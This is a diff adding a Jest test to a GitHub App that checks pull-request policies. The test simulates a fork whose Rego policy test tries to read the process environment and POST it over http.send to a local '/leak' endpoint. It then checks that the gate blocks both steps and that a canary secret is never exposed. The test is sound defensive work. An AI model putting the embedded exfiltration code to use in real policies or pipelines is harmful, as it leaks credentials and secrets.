@@ -4,6 +4,8 @@
  * of the head commit in the summary; and the base policies still judging the pull request.
  */
 import { createHash } from 'node:crypto';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import nock from 'nock';
 import { POLICY_CHECK_NAME } from '../../src/report/policy-report.js';
 import {
@@ -299,4 +301,88 @@ it('completes the policy check run as failed when GitHub will not list the head 
   expect(run.lastIsCompletion).toBe(true);
   expect(run.conclusion).toBe('failure');
   expect(run.summary).toContain('Server Error');
+});
+
+describe('a fork whose policy tests try to read the environment and reach the network', () => {
+  const CANARY = 'canary-5e1f0c2d-secret-value';
+  const saved = { WEBHOOK_SECRET: process.env.WEBHOOK_SECRET, PRIVATE_KEY: process.env.PRIVATE_KEY };
+  let server: Server;
+  let received: string[];
+
+  beforeAll(async () => {
+    process.env.WEBHOOK_SECRET = CANARY;
+    process.env.PRIVATE_KEY = CANARY;
+    received = [];
+    server = createServer((request, response) => {
+      received.push(`${request.method} ${request.url}`);
+      response.end('{"ok": true}');
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  });
+  afterAll(async () => {
+    for (const [name, value] of Object.entries(saved)) {
+      if (value === undefined) delete process.env[name];
+      else process.env[name] = value;
+    }
+    await new Promise((resolve) => server.close(resolve));
+  });
+
+  it('fails the policy check and shows neither the environment nor a network result', async () => {
+    const { port } = server.address() as AddressInfo;
+    const hostile = [
+      'package portcullis.rules.acme_node_mirror_hostile_test',
+      '',
+      'import rego.v1',
+      '',
+      'test_environment if {',
+      '\tprint("ENV", opa.runtime().env)',
+      '\tfalse',
+      '}',
+      '',
+      'test_network if {',
+      `\tresponse := http.send({"method": "POST", "url": "http://127.0.0.1:${port}/leak", "body": opa.runtime().env})`,
+      '\tprint("HTTP", response)',
+      '\tfalse',
+      '}',
+      '',
+    ].join('\n');
+    const files = {
+      [`${POLICIES}/mirror.rego`]: MIRROR_RULE,
+      [`${POLICIES}/hostile_test.rego`]: hostile,
+    };
+    const { policyRuns } = fakeHeadCommit({ Dockerfile: NODE_DOCKERFILE, ...files });
+    const main = fakePullRequest({ files });
+    await receive(createApp(), 'pull_request.opened', (payload) => {
+      const pr = payload.pull_request as { head: { repo: { full_name: string; fork?: boolean } } };
+      pr.head.repo.full_name = 'mallory/web';
+      pr.head.repo.fork = true;
+    });
+
+    const run = finalCheckRun(policyRuns);
+    expect(run.conclusion).toBe('failure');
+    expect(run.lastIsCompletion).toBe(true);
+    // The gate's capabilities refuse both built-ins, naming them on their line.
+    expect(run.annotations).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({
+          path: `${POLICIES}/hostile_test.rego`,
+          start_line: 6,
+          annotation_level: 'failure',
+          message: expect.stringContaining('opa.runtime'),
+        }),
+        expect.objectContaining({
+          path: `${POLICIES}/hostile_test.rego`,
+          start_line: 11,
+          message: expect.stringContaining('http.send'),
+        }),
+      ]),
+    );
+    expect(received).toEqual([]);
+    // Jest gives each test file its own copy of process.env, which child processes do not
+    // inherit; PATH is in both, so it stands for the environment the App's process has.
+    const sent = JSON.stringify([policyRuns, main]);
+    expect(sent).not.toContain(CANARY);
+    expect(sent).not.toContain(process.env.PATH);
+    expect(sent).not.toContain('HOME');
+  });
 });
